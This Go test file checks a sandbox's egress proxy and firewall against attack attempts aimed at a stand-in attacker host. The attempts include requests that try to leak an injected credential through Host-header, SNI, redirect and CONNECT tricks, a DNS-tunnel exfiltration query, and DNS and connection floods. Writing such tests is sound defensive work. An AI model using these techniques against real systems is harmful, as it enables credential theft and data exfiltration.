package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/agentbox/agentbox/internal/audit"
	"github.com/agentbox/agentbox/internal/network"
	"github.com/agentbox/agentbox/internal/testutil"
)

// The attacks below come from a sandbox's network namespace: the real
// nftables rules, the real proxy and resolver, and a fake internet where
// api.allowed.test is 198.18.2.11 and other.test (the attacker) is
// 198.18.2.12.

const apiAddr, attacker = "198.18.2.11", "198.18.2.12"

// roundTrips writes raw requests on c and reads one response per request.
func roundTrips(t *testing.T, c net.Conn, reqs ...string) []*http.Response {
	t.Helper()
	br := bufio.NewReader(c)
	var out []*http.Response
	for _, r := range reqs {
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := io.WriteString(c, r); err != nil {
			t.Fatalf("write: %v", err)
		}
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("read response to %q: %v", strings.SplitN(r, "\r\n", 2)[0], err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body = io.NopCloser(strings.NewReader(string(b)))
		out = append(out, resp)
	}
	return out
}

func echoOf(t *testing.T, r *http.Response) (testutil.Echo, string) {
	t.Helper()
	b, _ := io.ReadAll(r.Body)
	var e testutil.Echo
	_ = json.Unmarshal(b, &e)
	return e, string(b)
}

func TestCredentialAttacks(t *testing.T) {
	e := newEnv(t, network.Policy{AllowInternet: true})
	ctx := context.Background()
	const secret = "sk-attack-0123456789"
	hashed := testutil.HashSecret("Bearer " + secret)
	rule := func(pattern string, plain bool) network.Policy {
		return network.Policy{AllowInternet: true, Rules: []network.DomainRules{{Pattern: pattern,
			Transforms: []network.HeaderTransform{{Headers: map[string]string{"Authorization": "Bearer " + secret}, AllowPlainHTTP: plain}}}}}
	}
	set := func(t *testing.T, p network.Policy) {
		t.Helper()
		if err := e.nw.SetPolicy(ctx, "egs", p); err != nil {
			t.Fatal(err)
		}
	}
	caPEM, err := e.eg.CACertPEM("egs")
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(caPEM)
	dial := func(t *testing.T, addr string) net.Conn {
		t.Helper()
		c, err := e.dial(ctx, addr)
		if err != nil {
			t.Fatalf("dial %s: %v", addr, err)
		}
		t.Cleanup(func() { c.Close() })
		return c
	}
	tlsDial := func(t *testing.T, addr, sni string) (*tls.Conn, error) {
		c := dial(t, addr)
		tc := tls.Client(c, &tls.Config{ServerName: sni, RootCAs: roots})
		return tc, tc.Handshake()
	}
	get := func(host string) string { return "GET /probe HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }

	t.Run("Host header to an address the sandbox chose, no opt-in", func(t *testing.T) {
		set(t, rule("api.allowed.test", false))
		r := roundTrips(t, dial(t, attacker+":80"), get("api.allowed.test"))[0]
		echo, body := echoOf(t, r)
		if len(echo.Headers["Authorization"]) != 0 {
			t.Errorf("plain HTTP without allowPlainHTTP carried Authorization: %s", body)
		}
	})

	t.Run("Host header to an address the sandbox chose, plain HTTP opted in", func(t *testing.T) {
		set(t, rule("api.allowed.test", true))
		r := roundTrips(t, dial(t, attacker+":80"), get("api.allowed.test"))[0]
		echo, body := echoOf(t, r)
		if echo.Local != apiAddr+":80" || strings.Join(echo.Headers["Authorization"], "") != hashed {
			t.Errorf("want the secret at api.allowed.test's own address %s:80; got %s", apiAddr, body)
		}
	})

	t.Run("absolute-form request line", func(t *testing.T) {
		set(t, rule("api.allowed.test", true))
		r := roundTrips(t, dial(t, attacker+":80"), "GET http://api.allowed.test/abs HTTP/1.1\r\nHost: other.test\r\n\r\n")[0]
		if echo, body := echoOf(t, r); echo.Local != apiAddr+":80" {
			t.Errorf("absolute-form request went to %s: %s", echo.Local, body)
		}
	})

	t.Run("SNI to an address the sandbox chose", func(t *testing.T) {
		set(t, rule("api.allowed.test", false))
		tc, err := tlsDial(t, attacker+":443", "api.allowed.test")
		if err != nil {
			t.Fatalf("handshake: %v", err)
		}
		echo, body := echoOf(t, roundTrips(t, tc, get("api.allowed.test"))[0])
		if echo.Local != apiAddr+":443" || strings.Join(echo.Headers["Authorization"], "") != hashed {
			t.Errorf("want the secret at %s:443 only; got %s", apiAddr, body)
		}
	})

	t.Run("second request on a kept-alive TLS connection names another host", func(t *testing.T) {
		set(t, rule("api.allowed.test", false))
		tc, err := tlsDial(t, apiAddr+":443", "api.allowed.test")
		if err != nil {
			t.Fatal(err)
		}
		rs := roundTrips(t, tc, get("api.allowed.test"), get("other.test"))
		if rs[1].StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("second request for other.test: %s, want 421", rs[1].Status)
		}
	})

	t.Run("second request on a kept-alive HTTP connection names another host", func(t *testing.T) {
		set(t, rule("api.allowed.test", true))
		rs := roundTrips(t, dial(t, attacker+":80"), get("api.allowed.test"), get("other.test"))
		if echo, body := echoOf(t, rs[1]); len(echo.Headers["Authorization"]) != 0 {
			t.Errorf("the request for other.test carried the secret: %s", body)
		}
	})

	t.Run("redirect to another host", func(t *testing.T) {
		set(t, rule("api.allowed.test", true))
		c := e.client(roots.Clone())
		for _, scheme := range []string{"https", "http"} {
			resp, echo, err := e.get(t, c, scheme+"://api.allowed.test/redirect?to=http://other.test/landing")
			if err != nil {
				t.Fatalf("%s: %v", scheme, err)
			}
			if resp.StatusCode != http.StatusOK || echo.Path != "/landing" || len(echo.Headers["Authorization"]) != 0 {
				t.Errorf("%s redirect: %s %+v, want other.test's answer without the secret", scheme, resp.Status, echo)
			}
		}
	})

	t.Run("CONNECT through the proxy", func(t *testing.T) {
		set(t, rule("api.allowed.test", true))
		r := roundTrips(t, dial(t, attacker+":80"), "CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n")[0]
		if r.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("CONNECT: %s, want 405", r.Status)
		}
	})

	t.Run("upstream certificate the host does not trust", func(t *testing.T) {
		// The proxy verifies upstream certificates against its roots; with
		// roots that lack the fake internet's CA, nothing may be sent.
		orig := e.eg.cfg.RootCAs
		e.eg.cfg.RootCAs = x509.NewCertPool()
		defer func() { e.eg.cfg.RootCAs = orig }()
		set(t, rule("api.allowed.test", false))
		before := len(e.fake.Requests())
		resp, _, err := e.get(t, e.client(roots.Clone()), "https://api.allowed.test/unverified")
		if err != nil || resp.StatusCode != http.StatusBadGateway {
			t.Errorf("unverifiable upstream: %v %v, want 502", resp, err)
		}
		for _, s := range e.fake.Requests()[before:] {
			if s.Path == "/unverified" {
				t.Errorf("the request reached an upstream the proxy could not verify: %+v", s)
			}
		}
	})

	t.Run("rule domain resolving to a private address", func(t *testing.T) {
		set(t, rule("private.test", true))
		r := roundTrips(t, dial(t, attacker+":80"), get("private.test"))[0]
		if _, body := echoOf(t, r); r.StatusCode != http.StatusBadGateway || !strings.Contains(body, "refused") {
			t.Errorf("plain HTTP: %s %q, want 502 refused", r.Status, body)
		}
		if _, err := tlsDial(t, attacker+":443", "private.test"); err == nil || !strings.Contains(err.Error(), "access denied") {
			t.Errorf("TLS: %v, want an access_denied alert", err)
		}
	})

	t.Run("upstream proxy carries only the resolved address", func(t *testing.T) {
		carried := e.fake.SOCKS5(t, attacker+":1080", "", "")
		p := rule("api.allowed.test", false)
		p.Upstream = &network.UpstreamProxy{Scheme: "socks5", Address: attacker + ":1080"}
		set(t, p)
		tc, err := tlsDial(t, attacker+":443", "api.allowed.test")
		if err != nil {
			t.Fatal(err)
		}
		echo, body := echoOf(t, roundTrips(t, tc, get("api.allowed.test"))[0])
		if echo.Local != apiAddr+":443" || carried() == 0 {
			t.Errorf("through the upstream proxy: %s (carried %d)", body, carried())
		}
	})

	// Whatever each step saw, the fake internet's own record: the secret
	// arrived nowhere but at api.allowed.test's address.
	for _, s := range e.fake.Requests() {
		if strings.Contains(strings.Join(s.Header["Authorization"], ""), secret) && !strings.HasPrefix(s.Local, apiAddr+":") {
			t.Errorf("the secret reached %s (%s%s)", s.Local, s.Host, s.Path)
		}
	}
}

func TestDeniedEgressAttacks(t *testing.T) {
	e := newEnv(t, network.Policy{AllowOut: []netip.Prefix{netip.MustParsePrefix(attacker + "/32")}})
	ctx := context.Background()

	t.Run("SYN to a denied address is refused at once", func(t *testing.T) {
		for _, addr := range []string{"198.18.2.10:7", "198.18.2.10:80", "198.18.2.10:443", "198.18.2.11:22"} {
			start := time.Now()
			c, err := e.dial(ctx, addr)
			if c != nil {
				c.Close()
			}
			if !errors.Is(err, syscall.ECONNREFUSED) || time.Since(start) > time.Second {
				t.Errorf("connect %s: %v after %s, want ECONNREFUSED at once", addr, err, time.Since(start))
			}
		}
	})

	t.Run("UDP to a denied address", func(t *testing.T) {
		// The kernel rate-limits ICMP errors host-wide as well as per
		// peer: a busy host may swallow one, so up to three tries; an echo
		// would fail at once.
		var err error
		for range 3 {
			if err = udpProbe(e, "198.18.2.10:7"); err == nil || !errors.Is(err, os.ErrDeadlineExceeded) {
				break
			}
		}
		if !errors.Is(err, syscall.ECONNREFUSED) && !errors.Is(err, syscall.EHOSTUNREACH) {
			t.Errorf("UDP to a denied address: %v, want an ICMP refusal", err)
		}
		if err := udpProbe(e, attacker+":7"); err != nil {
			t.Errorf("UDP to the allowed address: %v", err)
		}
	})

	t.Run("what the kernel refused or let out is audited", func(t *testing.T) {
		want := []struct{ decision, dst, proto string }{
			{audit.Denied, "198.18.2.10:7", "tcp"},
			{audit.Denied, "198.18.2.11:22", "tcp"},
			{audit.Denied, "198.18.2.10:7", "udp"},
			{audit.Allowed, attacker + ":7", "udp"},
		}
		has := func(evs []audit.Event, decision, dst, proto string) bool {
			for _, ev := range evs {
				if ev.Decision == decision && ev.Fields["dst"] == dst && ev.Fields["proto"] == proto && ev.Fields["at"] == "kernel" && ev.Reason != "" {
					return true
				}
			}
			return false
		}
		evs := waitEvents(t, e, func(evs []audit.Event) bool {
			for _, w := range want {
				if !has(evs, w.decision, w.dst, w.proto) {
					return false
				}
			}
			return true
		})
		for _, w := range want {
			if !has(evs, w.decision, w.dst, w.proto) {
				t.Errorf("no %s %s record for %s", w.decision, w.proto, w.dst)
			}
		}
	})

	t.Run("DNS tunnel with the internet off", func(t *testing.T) {
		name := "c2VjcmV0LWRhdGE.exfil.other.test"
		start := time.Now()
		_, err := e.resolver().LookupNetIP(ctx, "ip4", name)
		if err == nil || time.Since(start) > time.Second {
			t.Errorf("lookup %s: %v after %s, want a refusal at once", name, err, time.Since(start))
		}
		for _, q := range e.fake.Queries() {
			if strings.Contains(q, "c2vjcmv0") {
				t.Errorf("the name reached the upstream nameserver: %s", q)
			}
		}
	})

	// Deny-all looks like deny-all, DNS included: no name resolves, and a
	// query sent to a nameserver of the sandbox's choice is a connection
	// to a denied address like any other.
	t.Run("deny-all: the resolver refuses every name", func(t *testing.T) {
		gw := net.JoinHostPort(e.nw.Gateway().String(), "53")
		for _, network := range []string{"udp4", "tcp4"} {
			for _, name := range []string{"allowed.test", "other.test", "example.com"} {
				rc, err := e.query(network, gw, name)
				if err != nil || rc != dnsmessage.RCodeRefused {
					t.Errorf("%s query for %s: %v %v, want REFUSED", network, name, rc, err)
				}
			}
		}
	})
	t.Run("deny-all: an outside nameserver is a denied destination", func(t *testing.T) {
		for _, ns := range []string{"9.9.9.9:53", e.fake.DNS.String() + ":53"} {
			var err error
			for range 3 { // the kernel rate-limits ICMP errors; see above
				if _, err = e.query("udp4", ns, "allowed.test"); err == nil || !errors.Is(err, os.ErrDeadlineExceeded) {
					break
				}
			}
			if !errors.Is(err, syscall.ECONNREFUSED) && !errors.Is(err, syscall.EHOSTUNREACH) {
				t.Errorf("UDP query to %s: %v, want an ICMP refusal", ns, err)
			}
			start := time.Now()
			if _, err := e.query("tcp4", ns, "allowed.test"); !errors.Is(err, syscall.ECONNREFUSED) || time.Since(start) > time.Second {
				t.Errorf("TCP query to %s: %v after %s, want ECONNREFUSED at once", ns, err, time.Since(start))
			}
		}
	})
}

func udpProbe(e *env, addr string) error {
	_, err := testutil.InNetNS(e.ep.NetNSPath, func() (struct{}, error) {
		c, err := net.Dial("udp4", addr)
		if err != nil {
			return struct{}{}, err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(time.Second))
		if _, err := c.Write([]byte("ping")); err != nil {
			return struct{}{}, err
		}
		_, err = c.Read(make([]byte, 16))
		return struct{}{}, err
	})
	return err
}

func TestFloods(t *testing.T) {
	e := newEnv(t, network.Policy{AllowInternet: true})
	ctx := context.Background()

	t.Run("DNS flood: queries refused past the rate, audit bounded", func(t *testing.T) {
		start := time.Now()
		refused, answered := 0, 0
		_, err := testutil.InNetNS(e.ep.NetNSPath, func() (struct{}, error) {
			c, err := net.Dial("udp4", "9.9.9.9:53")
			if err != nil {
				return struct{}{}, err
			}
			defer c.Close()
			buf := make([]byte, 1500)
			for i := range 1500 {
				b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: uint16(i), RecursionDesired: true})
				_ = b.StartQuestions()
				_ = b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(fmt.Sprintf("q%d.other.test.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
				q, _ := b.Finish()
				if _, err := c.Write(q); err != nil {
					return struct{}{}, err
				}
				_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
				n, err := c.Read(buf)
				if err != nil {
					continue
				}
				var p dnsmessage.Parser
				if h, err := p.Start(buf[:n]); err == nil {
					if h.RCode == dnsmessage.RCodeRefused {
						refused++
					} else {
						answered++
					}
				}
			}
			return struct{}{}, nil
		})
		if err != nil {
			t.Fatal(err)
		}
		took := time.Since(start)
		t.Logf("1500 queries in %s: %d answered, %d refused", took, answered, refused)
		if refused == 0 {
			t.Errorf("no query refused past %v per second", e.eg.cfg.Limits.DNSRate)
		}
		if max := int(2*e.eg.cfg.Limits.DNSRate+e.eg.cfg.Limits.DNSRate*took.Seconds()) + 5; answered > max {
			t.Errorf("%d queries answered in %s, want at most %d", answered, took, max)
		}
		// A flood that stopped gets its count recorded too (within 5 s).
		count := func(evs []audit.Event) (kept, suppressed int) {
			for _, ev := range evs {
				if ev.Action == "suppressed" {
					// The proxy's own summary counts "suppressed"; the audit
					// log's per-sandbox limiter behind it counts "count".
					for _, f := range []string{"suppressed", "count"} {
						if n, ok := ev.Fields[f].(float64); ok {
							suppressed += int(n)
						}
					}
				} else if ev.Action == "dns" && ev.Decision == audit.Denied {
					kept++
				}
			}
			return kept, suppressed
		}
		evs := waitEvents(t, e, func(evs []audit.Event) bool { k, s := count(evs); return k+s >= refused })
		// Every record let through may be followed by one summary.
		limit := 2*int(10*e.eg.cfg.Limits.AuditRate+e.eg.cfg.Limits.AuditRate*(time.Since(start).Seconds()+1)) + 5
		if len(evs) > limit {
			t.Errorf("%d audit records for the flood, want at most %d", len(evs), limit)
		}
		kept, suppressed := count(evs)
		t.Logf("audit: %d records kept, %d counted in %q records", kept, suppressed, "suppressed")
		if kept+suppressed < refused {
			t.Errorf("%d refusals, but only %d records and %d suppressed: some vanished without a count", refused, kept, suppressed)
		}
	})

	t.Run("connection flood: capped per sandbox", func(t *testing.T) {
		e.eg.cfg.Limits.Conns = 8
		defer func() { e.eg.cfg.Limits.Conns = 512 }()
		var held []net.Conn
		defer func() {
			for _, c := range held {
				c.Close()
			}
		}()
		for range 8 {
			c, err := e.dial(ctx, "198.18.2.10:80")
			if err != nil {
				t.Fatal(err)
			}
			held = append(held, c)
		}
		time.Sleep(100 * time.Millisecond)
		c, err := e.dial(ctx, "198.18.2.10:80")
		if err == nil {
			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
			_, err = c.Read(make([]byte, 1))
			c.Close()
		}
		if !errors.Is(err, syscall.ECONNRESET) {
			t.Errorf("ninth connection: %v, want a reset", err)
		}
		for _, c := range held {
			c.Close()
		}
		held = nil
		time.Sleep(200 * time.Millisecond)
		resp, _, err := e.get(t, e.client(e.fake.CAPool), "http://allowed.test/after")
		wantOK(t, "after the flood", resp, err)
	})
}

// waitEvents returns the sandbox's egress records once done says so (or
// after 8 s).
func waitEvents(t *testing.T, e *env, done func([]audit.Event) bool) []audit.Event {
	t.Helper()
	deadline := time.Now().Add(8 * time.Second)
	for {
		evs, err := e.audit.Query(context.Background(), audit.Query{SandboxID: "egs", Kinds: []string{audit.KindEgress}, Limit: 100000})
		if err != nil {
			t.Fatal(err)
		}
		if done(evs) || time.Now().After(deadline) {
			return evs
		}
		time.Sleep(200 * time.Millisecond)
	}
}
